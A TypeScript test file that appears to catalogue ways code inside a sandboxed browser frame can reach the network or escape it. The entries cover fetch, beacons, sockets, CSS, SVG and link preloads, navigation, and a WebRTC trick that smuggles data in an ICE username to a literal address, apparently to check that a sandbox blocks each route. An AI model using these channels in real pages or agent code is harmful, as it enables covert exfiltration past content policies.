import { attacksOf } from './attack.ts'

/** Shorthand of the attacks: an element with properties, put into the document. */
export const WINDOW_SHORTHAND = `const put = (tag, properties) => { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e };
const put_head = (tag, properties) => { const e = Object.assign(document.createElement(tag), properties); document.head.append(e); return e };
const sdp = (to, port, data) => ['v=0', 'o=- 1 1 IN IP4 0.0.0.0', 's=-', 't=0 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=ice-ufrag:' + data, 'a=ice-pwd:0123456789abcdef01234567', 'a=fingerprint:sha-256 ' + Array(32).fill('AA').join(':'), 'a=setup:passive', 'a=mid:0', 'a=sctp-port:5000', 'a=candidate:1 1 udp 2130706431 ' + to + ' ' + port + ' typ host', ''].join('\\r\\n');`

/** The one thing that no policy closes: ICE checks to an address in digits. The host script removes its constructor. */
export const LITERAL_ICE = 'rtc-literal'

/** From the frame's window, where job code never runs: the second line of defence. */
export const WINDOW_ATTACKS = attacksOf(String.raw`
  # requests by script
  fetch                   await fetch(http)
  fetch-keepalive         await fetch(http, { mode: 'no-cors', keepalive: true })
  fetch-later             fetchLater(http, { activateAfter: 0 })
  fetch-app               await fetch(app + '/' + name, { mode: 'no-cors' })
  xhr-sync                const x = new XMLHttpRequest(); x.open('GET', http, false); x.send()
  websocket               new WebSocket(ws)
  websocket-stream        await new WebSocketStream(ws).opened
  eventsource             new EventSource(http)
  webtransport            await new WebTransport('https://' + host + ':' + udp + '/').ready
  beacon                  navigator.sendBeacon(http, 'data')
  font-face               await new FontFace('x', 'url(' + http + ')').load()
  import                  await import(http)
  notification            new Notification('x', { icon: http })
  worklet                 await new AudioContext().audioWorklet.addModule(http)
  paint-worklet           await CSS.paintWorklet.addModule(http)

  # requests by elements
  img                     put('img', { src: http })
  img-srcset              put('img', { srcset: http + ' 1x' })
  img-object              new Image().src = http
  picture                 put('picture', { innerHTML: '<source srcset="' + http + '"><img>' })
  input-image             put('input', { type: 'image', src: http })
  svg-image               put('div', { innerHTML: '<svg><image href="' + http + '"/></svg>' })
  svg-use                 put('div', { innerHTML: '<svg><use href="' + http + '#a"/></svg>' })
  svg-filter              put('div', { innerHTML: '<svg><filter id="f"><feImage href="' + http + '"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>' })
  css-background          put('div', { style: 'width:9px;height:9px;background:url(' + http + ')' })
  css-import              put('style', { textContent: '@import url(' + http + ');' })
  css-font                put('style', { textContent: '@font-face { font-family: x; src: url(' + http + ') } body { font-family: x }' }); put('p', { textContent: 'x' })
  css-cursor              put('div', { style: 'cursor:url(' + http + '),auto;content:url(' + http + ')' })
  stylesheet              put_head('link', { rel: 'stylesheet', href: http })
  icon                    put_head('link', { rel: 'icon', href: http })
  manifest                put_head('link', { rel: 'manifest', href: http })
  preload                 put_head('link', { rel: 'preload', as: 'image', href: http })
  modulepreload           put_head('link', { rel: 'modulepreload', href: http })
  prefetch                put_head('link', { rel: 'prefetch', href: http })
  dns-prefetch            put_head('link', { rel: 'dns-prefetch', href: http })
  preconnect              put_head('link', { rel: 'preconnect', href: http })
  prerender               put_head('link', { rel: 'prerender', href: http })
  speculation             put_head('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [http], eagerness: 'immediate' }] }) })
  script                  put('script', { src: http })
  script-inline           put('script', { textContent: 'fetch("' + http + '")' })
  handler-inline          put('img', { src: 'data:,' }).setAttribute('onerror', 'fetch("' + http + '")')
  video                   put('video', { src: http, preload: 'auto' }).load()
  video-poster            put('video', { poster: http })
  audio                   put('audio', { src: http, preload: 'auto' }).load()
  track                   put('video', { innerHTML: '<track default kind=captions src="' + http + '">' }).textTracks[0].mode = 'showing'
  object                  put('object', { data: http })
  embed                   put('embed', { src: http })
  iframe                  put('iframe', { src: http })
  iframe-srcdoc           put('iframe', { srcdoc: '<img src="' + http + '">' })
  anchor-ping             const a = put('a', { href: '#x' }); a.ping = http; a.click()
  !anchor-download        put('a', { href: http, download: 'x' }).click()

  # leaving
  !navigate               location.href = http
  !navigate-refresh       put_head('meta', { httpEquiv: 'refresh', content: '0;url=' + http })
  top                     top.location.href = http
  popup                   return open(http) !== null
  target-blank            put('a', { href: http, target: '_blank' }).click()
  !form                   put('form', { action: http, method: 'POST' }).submit()

  # WebRTC
  rtc-stun                const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host + ':' + udp }] }); c.createDataChannel('x'); await c.setLocalDescription()
  rtc-turn                const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + host + ':' + udp, username: 'u', credential: 'c' }] }); c.createDataChannel('x'); await c.setLocalDescription()
  rtc-literal             const c = new RTCPeerConnection(); c.createDataChannel('x'); await c.setLocalDescription(); await c.setRemoteDescription({ type: 'answer', sdp: sdp(address, udp, 'datadatadata') })

  # the app
  parent-document         return parent.document.title.length >= 0
  storage                 localStorage.setItem('x', 'y'); return true
  service-worker          await navigator.serviceWorker.register(app + '/' + name)
`)
